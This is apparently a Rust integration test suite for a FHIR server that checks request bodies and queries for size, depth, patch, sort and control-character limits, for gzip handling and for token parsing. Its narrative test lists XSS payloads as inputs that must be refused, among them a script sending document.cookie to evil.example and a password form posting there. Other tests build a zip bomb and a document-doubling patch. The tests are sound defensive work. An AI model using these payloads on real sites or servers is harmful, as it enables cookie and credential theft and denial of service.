//! What a request body or query may be (issue 21): bounded in size and cost before the work is
//! done, one well-formed document, FHIR strings without control characters, narratives of basic
//! HTML only, bounded patches and sorts, gzip bodies, fractional token dates. Each refusal is an
//! OperationOutcome with nothing written; each rule also has the case that must still pass.

use std::io::Write;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::both_backends;
use crate::helpers::*;

async fn patch(app: &TestApp, path: &str, ops: &Value) -> reqwest::Response {
    app.client
        .patch(app.url(path))
        .header("Content-Type", "application/json-patch+json")
        .body(ops.to_string())
        .send()
        .await
        .expect("request")
}

fn diagnostics(outcome: &Value) -> &str {
    outcome["issue"][0]["diagnostics"].as_str().unwrap_or("")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Nested extensions, `levels` deep, in JSON.
fn nested_extensions(levels: usize) -> Value {
    let mut ext = json!({"url": "urn:x", "valueString": "leaf"});
    for _ in 1..levels {
        ext = json!({"url": "urn:x", "extension": [ext]});
    }
    json!({"resourceType": "Patient", "extension": [ext]})
}

both_backends! {
    async fn too_many_elements_or_too_deep_a_nesting_is_refused_before_parsing(app: TestApp) {
        // 200,000 given names in 1.4 MB: 413 at once, nothing written.
        let names: Vec<String> = (0..200_000).map(|i| format!("g{i}")).collect();
        let huge = json!({"resourceType": "Patient", "name": [{"family": "Many", "given": names}]});
        let started = Instant::now();
        let outcome = assert_outcome(app.post_json("Patient", &huge).await, 413, "too-costly").await;
        assert!(started.elapsed() < Duration::from_secs(3), "{:?}", started.elapsed());
        assert!(diagnostics(&outcome).contains("TANDEM_MAX_RESOURCE_ELEMENTS"), "{outcome}");
        // The same in XML.
        let xml = format!(
            r#"<Patient xmlns="http://hl7.org/fhir"><name><family value="Many"/>{}</name></Patient>"#,
            r#"<given value="g"/>"#.repeat(60_000)
        );
        assert_outcome(app.post_raw("Patient", FHIR_XML, xml).await, 413, "too-costly").await;
        // 70 levels of nested extensions (the default limit is 64): 400 too-costly, in JSON and XML.
        let outcome = assert_outcome(app.post_json("Patient", &nested_extensions(70)).await, 400, "too-costly").await;
        assert!(diagnostics(&outcome).contains("TANDEM_MAX_RESOURCE_DEPTH"), "{outcome}");
        let xml = format!(
            r#"<Patient xmlns="http://hl7.org/fhir">{}<valueString value="x"/>{}</Patient>"#,
            r#"<extension url="urn:x">"#.repeat(70),
            "</extension>".repeat(70)
        );
        assert_outcome(app.post_raw("Patient", FHIR_XML, xml).await, 400, "too-costly").await;
        // An update and a Bundle are bounded the same way.
        assert_outcome(app.put_json("Patient/big", &json!({"resourceType": "Patient", "id": "big", "name": [{"given": (0..200_000).map(|i| i.to_string()).collect::<Vec<_>>()}]})).await, 413, "too-costly").await;
        assert_eq!(app.version_count().await, 0);
        assert_eq!(app.get("Patient/big").await.status(), 404);

        // What must pass: 20 levels of extensions, and a transaction of 1,000 entries.
        assert_eq!(app.post_json("Patient", &nested_extensions(20)).await.status(), 201);
        let entries: Vec<Value> = (0..1000)
            .map(|i| json!({"fullUrl": format!("urn:uuid:{}", uuid::Uuid::new_v4()),
                "resource": {"resourceType": "Patient", "identifier": [{"system": "urn:clinic", "value": format!("mrn-{i}")}],
                    "name": [{"family": format!("Family{i}"), "given": ["Ann", "Marie"]}], "gender": "female", "birthDate": "1980-05-17",
                    "telecom": [{"system": "phone", "value": "555-0100", "use": "home"}],
                    "address": [{"line": ["1 Main St"], "city": "Springfield", "postalCode": "12345"}]},
                "request": {"method": "POST", "url": "Patient"}}))
            .collect();
        let res = app.post_json("", &json!({"resourceType": "Bundle", "type": "transaction", "entry": entries})).await;
        assert_eq!(res.status(), 200);
        let total = json(app.get("Patient?_summary=count").await).await;
        assert_eq!(total["total"], 1001);
    }

    async fn the_element_and_depth_limits_are_settings(app: TestApp) {
        let app = TestApp::spawn_configured(app.backend, |c| {
            c.max_resource_elements = 40;
            c.max_resource_depth = 5;
        }).await;
        let with_given = |n: usize| json!({"resourceType": "Patient", "name": [{"given": vec!["a"; n]}]});
        // The Patient, its resourceType, the name and 30 given names pass; 39 given names do not.
        assert_eq!(app.post_json("Patient", &with_given(30)).await.status(), 201);
        assert_outcome(app.post_json("Patient", &with_given(39)).await, 413, "too-costly").await;
        // Depth 5 = Patient, extension array, extension, its array, the nested extension.
        assert_eq!(app.post_json("Patient", &nested_extensions(2)).await.status(), 201);
        assert_outcome(app.post_json("Patient", &nested_extensions(3)).await, 400, "too-costly").await;
        assert_eq!(app.version_count().await, 2);
    }

    async fn patches_are_bounded_in_operations_and_in_what_they_make(app: TestApp) {
        let p = app.create(&json!({"resourceType": "Patient", "name": [{"family": "Doe", "given": ["Jo"]}]})).await;
        let path = format!("Patient/{}", p["id"].as_str().unwrap());
        // 101 operations (the limit is 100): refused before any is applied.
        let ops: Vec<Value> = (0..101).map(|_| json!({"op": "replace", "path": "/active", "value": true})).collect();
        let outcome = assert_outcome(patch(&app, &path, &json!(ops)).await, 400, "too-costly").await;
        assert!(diagnostics(&outcome).contains("TANDEM_MAX_PATCH_OPERATIONS"), "{outcome}");
        // Repeated copies that double the document: refused as soon as it passes the body limit.
        let big = "x".repeat(300_000);
        let mut ops = vec![json!({"op": "add", "path": "/name/0/given/-", "value": big})];
        ops.extend((0..30).map(|_| json!({"op": "copy", "from": "/name/0", "path": "/name/-"})));
        let started = Instant::now();
        let outcome = assert_outcome(patch(&app, &path, &json!(ops)).await, 413, "too-costly").await;
        assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());
        assert!(diagnostics(&outcome).contains("TANDEM_MAX_BODY_BYTES"), "{outcome}");
        // The same patch in a transaction: refused, nothing written.
        let binary = |ops: &Value| {
            use base64::Engine;
            json!({"resourceType": "Binary", "contentType": "application/json-patch+json",
                "data": base64::engine::general_purpose::STANDARD.encode(ops.to_string())})
        };
        let bundle = json!({"resourceType": "Bundle", "type": "transaction", "entry": [
            {"resource": binary(&json!(ops)), "request": {"method": "PATCH", "url": path}}]});
        let res = app.post_json("", &bundle).await;
        assert_eq!(res.status(), 413);
        // A duplicate key in an operation is not a JSON Patch.
        let res = app.client.patch(app.url(&path)).header("Content-Type", "application/json-patch+json")
            .body(r#"[{"op":"remove","path":"/name","op":"add"}]"#).send().await.unwrap();
        assert_outcome(res, 400, "invalid").await;
        let now = json(app.get(&path).await).await;
        assert_eq!(now["meta"]["versionId"], "1");
        assert_eq!(now["name"][0]["given"], json!(["Jo"]));
        // What must pass: a patch of a few operations, and copies that stay small.
        let ok = json!([{"op": "replace", "path": "/name/0/family", "value": "Roe"},
            {"op": "copy", "from": "/name/0", "path": "/name/-"}, {"op": "add", "path": "/active", "value": true}]);
        let res = patch(&app, &path, &ok).await;
        assert_eq!(res.status(), 200);
        let after = json(res).await;
        assert_eq!(after["name"][1]["family"], "Roe");
        assert_eq!(after["meta"]["versionId"], "2");
    }

    async fn sort_keys_are_bounded(app: TestApp) {
        app.create(&patient("Sorted")).await;
        let six = "family,given,birthdate,gender,name,identifier";
        let outcome = assert_outcome(app.get(&format!("Patient?_sort={six}")).await, 400, "too-costly").await;
        assert!(diagnostics(&outcome).contains("at most 5"), "{outcome}");
        // Several _sort parameters count together.
        assert_outcome(app.get("Patient?_sort=family,given,birthdate&_sort=-name,_id,_lastUpdated").await, 400, "too-costly").await;
        let five = "family,-given,birthdate&_sort=_id,-_lastUpdated";
        let bundle = json(app.get(&format!("Patient?_sort={five}")).await).await;
        assert_eq!(entries(&bundle).len(), 1);
    }

    async fn search_values_are_bounded(app: TestApp) {
        app.create(&patient("Valued")).await;
        let search = |query: String| {
            app.client.post(app.url("Patient/_search")).header("Content-Type", "application/x-www-form-urlencoded")
                .body(query).send()
        };
        // 201 alternatives of one parameter: 400 too-costly (it was a 500 on both backends).
        for (param, value) in [("family", "a"), ("identifier", "urn:x|a"), ("birthdate", "ge2000-01-01"), ("_id", "a")] {
            let res = search(format!("{param}={}", vec![value; 201].join(","))).await.unwrap();
            let outcome = assert_outcome(res, 400, "too-costly").await;
            assert!(diagnostics(&outcome).contains("at most 200"), "{outcome}");
        }
        // 200 pass, for each kind of parameter and through a chain.
        for (param, value) in [("family", "Valued"), ("identifier", "urn:x|a"), ("birthdate", "1980-05-17"), ("_id", "a"),
            ("general-practitioner.name", "a"), ("_has:Group:member:code", "urn:x|a")] {
            let res = search(format!("{param}={}", vec![value; 200].join(","))).await.unwrap();
            assert_eq!(res.status(), 200, "{param}: {}", res.text().await.unwrap());
        }
    }

    async fn control_characters_are_refused_in_bodies_urls_and_queries(app: TestApp) {
        // JSON: a NUL, a U+0001, anywhere — each named by its path.
        let outcome = assert_outcome(app.post_raw("Patient", FHIR_JSON,
            "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"Do\\u0000e\"}]}").await, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("Patient.name[0].family"), "{outcome}");
        let outcome = assert_outcome(app.post_raw("Patient", FHIR_JSON,
            "{\"resourceType\":\"Patient\",\"identifier\":[{\"system\":\"urn:x\",\"value\":\"a\\u0001\"}]}").await, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("Patient.identifier[0].value"), "{outcome}");
        // XML, as a character reference and raw.
        let outcome = assert_outcome(app.post_raw("Patient", FHIR_XML,
            r#"<Patient xmlns="http://hl7.org/fhir"><name><family value="Do&#1;e"/></name></Patient>"#).await, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("Patient.name[0].family"), "{outcome}");
        assert_outcome(app.post_raw("Patient", FHIR_XML,
            "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"Do\u{1}e\"/></name></Patient>").await, 400, "structure").await;
        // Inside a Bundle entry.
        let res = app.post_raw("", FHIR_JSON, "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"resource\":{\"resourceType\":\"Patient\",\"name\":[{\"text\":\"x\\u0000\"}]},\"request\":{\"method\":\"POST\",\"url\":\"Patient\"}}]}").await;
        let outcome = assert_outcome(res, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("Bundle.entry[0].resource.name[0].text"), "{outcome}");
        // Search values, ids, any query parameter: 400 before any database work.
        for url in ["Patient?family=Do%00e", "Patient?_id=a%00", "Patient?name=%01", "Patient/a%00b", "Patient/a%00b/_history",
            "Patient?_sort=family%00", "_history?_since=2020%00", "Patient?_lastUpdated=gt2020%00"] {
            assert_outcome(app.get(url).await, 400, "invalid").await;
        }
        // A query inside a Bundle entry, and If-None-Exist.
        let batch = json!({"resourceType": "Bundle", "type": "batch", "entry": [{"request": {"method": "GET", "url": "Patient?family=Do%00e"}}]});
        let res = json(app.post_json("", &batch).await).await;
        assert_eq!(res["entry"][0]["response"]["status"].as_str().unwrap_or("").split(' ').next(), Some("400"), "{res}");
        let res = app.client.post(app.url("Patient")).header("Content-Type", FHIR_JSON)
            .header("If-None-Exist", "identifier=urn:x|a%00").body(patient("Cond").to_string()).send().await.unwrap();
        assert_outcome(res, 400, "invalid").await;
        assert_eq!(app.version_count().await, 0);
        // What must pass: tab, carriage return, line feed; a search for an ordinary value.
        let ok = app.create(&json!({"resourceType": "Patient", "name": [{"text": "Ann\tMarie\r\nDoe", "family": "Doe"}]})).await;
        assert_eq!(ok["name"][0]["text"], "Ann\tMarie\r\nDoe");
        assert_eq!(entries(&json(app.get("Patient?family=Doe").await).await).len(), 1);
    }

    async fn malformed_documents_are_refused_with_nothing_written(app: TestApp) {
        for body in [
            r#"{"resourceType":"Patient","active":true} garbage"#,
            r#"{"resourceType":"Patient"}{"resourceType":"Patient"}"#,
            r#"{"resourceType":"Patient","active":true,"active":false}"#,
        ] {
            assert_outcome(app.post_raw("Patient", FHIR_JSON, body).await, 400, "structure").await;
        }
        // A contained resource inside a contained one is well-formed, but breaks dom-2 (422).
        let nested = r##"{"resourceType":"Patient","contained":[{"resourceType":"Patient","id":"c1","contained":[{"resourceType":"Patient","id":"c2"}]}],"link":[{"other":{"reference":"#c1"},"type":"seealso"}]}"##;
        let outcome = assert_outcome(app.post_raw("Patient", FHIR_JSON, nested).await, 422, "invariant").await;
        assert!(diagnostics(&outcome).starts_with("dom-2: "), "{outcome}");
        assert_eq!(outcome["issue"][0]["expression"][0], "Patient.contained[0]", "{outcome}");
        // A duplicate "id" in a PUT: the last one no longer wins.
        let res = app.client.put(app.url("Patient/a")).header("Content-Type", FHIR_JSON)
            .body(r#"{"resourceType":"Patient","id":"b","id":"a"}"#).send().await.unwrap();
        let outcome = assert_outcome(res, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("'id' twice"), "{outcome}");
        // XML: two roots, text after the root.
        for body in [
            r#"<Patient xmlns="http://hl7.org/fhir"/><Patient xmlns="http://hl7.org/fhir"/>"#,
            r#"<Patient xmlns="http://hl7.org/fhir"><active value="true"/></Patient>trailing"#,
        ] {
            assert_outcome(app.post_raw("Patient", FHIR_XML, body).await, 400, "structure").await;
        }
        // Integers beyond 32 bits (Group.quantity is an unsignedInt: 0..2^31-1), JSON and XML.
        let group = |q: i64| json!({"resourceType": "Group", "type": "person", "actual": true, "quantity": q});
        let outcome = assert_outcome(app.post_json("Group", &group(2_147_483_648)).await, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("Group.quantity"), "{outcome}");
        let xml = r#"<Group xmlns="http://hl7.org/fhir"><type value="person"/><actual value="true"/><quantity value="2147483648"/></Group>"#;
        assert_outcome(app.post_raw("Group", FHIR_XML, xml).await, 400, "structure").await;
        assert_eq!(app.version_count().await, 0);
        assert_eq!(app.get("Patient/a").await.status(), 404);
        assert_eq!(app.get("Patient/b").await.status(), 404);
        // What must pass: the largest quantity, one level of contained, XML with a declaration and comments.
        assert_eq!(app.post_json("Group", &group(2_147_483_647)).await.status(), 201);
        let contained = json!({"resourceType": "Patient", "contained": [{"resourceType": "Organization", "id": "o1", "name": "Clinic"}],
            "managingOrganization": {"reference": "#o1"}});
        assert_eq!(app.post_json("Patient", &contained).await.status(), 201);
        let xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- an EHR's export -->\n<Patient xmlns=\"http://hl7.org/fhir\"><active value=\"true\"/></Patient>\n";
        assert_eq!(app.post_raw("Patient", FHIR_XML, xml).await.status(), 201);
        let put = app.put_json("Patient/a", &json!({"resourceType": "Patient", "id": "a"})).await;
        assert_eq!(put.status(), 201);
    }

    async fn narratives_hold_basic_html_only(app: TestApp) {
        let with_div = |inner: &str| json!({"resourceType": "Patient", "text": {"status": "generated",
            "div": format!(r#"<div xmlns="http://www.w3.org/1999/xhtml">{inner}</div>"#)}});
        for bad in [
            "<p>Hi<script>fetch('https://evil.example/'+document.cookie)</script></p>",
            r#"<p onclick="alert(1)">Hi</p>"#,
            r#"<img src="x.png" onerror="alert(1)"/>"#,
            r#"<a href="javascript:alert(1)">Open</a>"#,
            r#"<a href="&#106;avascript:alert(1)">Open</a>"#,
            r#"<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>"#,
            r#"<iframe src="https://evil.example/"></iframe>"#,
            r#"<form action="https://evil.example/"><input name="password"/></form>"#,
            r#"<object data="x.swf"></object>"#,
            "   ",
        ] {
            // txt-1 (the allow-list) or txt-2 (some content): invariants, 422 with the div's path.
            let outcome = assert_outcome(app.post_json("Patient", &with_div(bad)).await, 422, "invariant").await;
            let key = if bad.trim().is_empty() { "txt-2: " } else { "txt-1: " };
            assert!(diagnostics(&outcome).starts_with(key), "{bad}: {outcome}");
            assert_eq!(outcome["issue"][0]["expression"][0], "Patient.text.div", "{bad}: {outcome}");
        }
        // A div that is not XHTML at all is a structure error.
        let outcome = assert_outcome(app.post_json("Patient", &with_div("<p>open")).await, 400, "structure").await;
        assert!(diagnostics(&outcome).contains("Patient.text.div"), "{outcome}");
        // XML narratives follow the same rules.
        let xml = r#"<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p onmouseover="alert(1)">Hi</p></div></text></Patient>"#;
        assert_outcome(app.post_raw("Patient", FHIR_XML, xml).await, 422, "invariant").await;
        assert_eq!(app.version_count().await, 0);
        // What must pass: the official examples' narratives (tables, links, images, styles), in both formats.
        // (It refers to Organization/1.)
        assert_eq!(app.put_json("Organization/1", &json!({"resourceType": "Organization", "id": "1", "name": "Clinic"})).await.status(), 201);
        let example = fixture("json/patient-example.json");
        assert_eq!(app.post_raw("Patient", FHIR_JSON, example).await.status(), 201);
        let example = fixture("xml/patient-example.xml");
        let res = app.post_raw("Patient", FHIR_XML, example).await;
        assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
        let rich = with_div(r#"<p>Seen by <a href="https://ehr.example/Practitioner/1">Dr. Lee</a> <img src="logo.png" alt="logo"/></p><table><tr><td style="color: blue">PHQ-9</td><td>7</td></tr></table>"#);
        assert_eq!(app.post_json("Patient", &rich).await.status(), 201);
    }

    async fn gzip_bodies_are_inflated_within_the_limit(app: TestApp) {
        let body = patient("Zipped").to_string();
        let res = app.client.post(app.url("Patient")).header("Content-Type", FHIR_JSON)
            .header("Content-Encoding", "gzip").body(gzip(body.as_bytes())).send().await.unwrap();
        assert_eq!(res.status(), 201);
        let created = json(res).await;
        assert_eq!(created["name"][0]["family"], "Zipped");
        // A zip bomb: 64 MB of spaces in about 64 KB. Refused once 4 MB are inflated, at once.
        let bomb = gzip(&vec![b' '; 64 * 1024 * 1024]);
        assert!(bomb.len() < 200_000, "{}", bomb.len());
        let started = Instant::now();
        let res = app.client.post(app.url("Patient")).header("Content-Type", FHIR_JSON)
            .header("Content-Encoding", "gzip").body(bomb).send().await.unwrap();
        let outcome = assert_outcome(res, 413, "too-costly").await;
        assert!(started.elapsed() < Duration::from_secs(3), "{:?}", started.elapsed());
        assert!(diagnostics(&outcome).contains("decompressed"), "{outcome}");
        // Not gzip at all, and other encodings.
        let res = app.client.post(app.url("Patient")).header("Content-Type", FHIR_JSON)
            .header("Content-Encoding", "gzip").body(body.clone()).send().await.unwrap();
        assert_outcome(res, 400, "invalid").await;
        for encoding in ["br", "deflate", "gzip, gzip", "compress"] {
            let res = app.client.post(app.url("Patient")).header("Content-Type", FHIR_JSON)
                .header("Content-Encoding", encoding).body(body.clone()).send().await.unwrap();
            assert_outcome(res, 415, "not-supported").await;
        }
        assert_eq!(app.version_count().await, 1);
        // A gzip PATCH, and identity, pass too.
        let path = format!("Patient/{}", created["id"].as_str().unwrap());
        let ops = json!([{"op": "add", "path": "/active", "value": true}]).to_string();
        let res = app.client.patch(app.url(&path)).header("Content-Type", "application/json-patch+json")
            .header("Content-Encoding", "gzip").body(gzip(ops.as_bytes())).send().await.unwrap();
        assert_eq!(res.status(), 200);
        let res = app.client.post(app.url("Patient")).header("Content-Type", FHIR_JSON)
            .header("Content-Encoding", "identity").body(body).send().await.unwrap();
        assert_eq!(res.status(), 201);
    }

    async fn token_dates_may_be_fractional_and_huge_tokens_get_an_outcome(app: TestApp) {
        let key = tandem::auth::token::LocalKey::load_or_create(app.db.dir.path()).unwrap();
        let pem = std::fs::read(app.db.dir.path().join(tandem::auth::token::LOCAL_KEY_FILE)).unwrap();
        let encoding = jsonwebtoken::EncodingKey::from_ec_pem(&pem).unwrap();
        let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::ES256);
        header.kid = Some(key.kid.clone());
        let now = jsonwebtoken::get_current_timestamp() as f64;
        let sign = |exp: f64| {
            let claims = json!({"iss": tandem::auth::token::LOCAL_ISSUER, "aud": tandem::auth::token::LOCAL_AUDIENCE,
                "sub": "ehr", "scope": "system/*.rs", "iat": now - 0.5, "nbf": now - 1.25, "exp": exp});
            jsonwebtoken::encode(&header, &claims, &encoding).unwrap()
        };
        let res = bearer_client(&sign(now + 300.75)).get(app.url("Patient")).send().await.unwrap();
        assert_eq!(res.status(), 200);
        // A fractional exp in the past is still expired.
        let res = bearer_client(&sign(now - 120.5)).get(app.url("Patient")).send().await.unwrap();
        let outcome = assert_outcome(res, 401, "login").await;
        assert!(diagnostics(&outcome).contains("expired"), "{outcome}");
        // A 64 KB token: 401 with an OperationOutcome, not a bare 431.
        let long = format!("{}{}", sign(now + 300.0), "A".repeat(64 * 1024));
        let res = bearer_client(&long).get(app.url("Patient")).send().await.unwrap();
        let outcome = assert_outcome(res, 401, "login").await;
        assert!(diagnostics(&outcome).contains("longer than"), "{outcome}");
    }
}
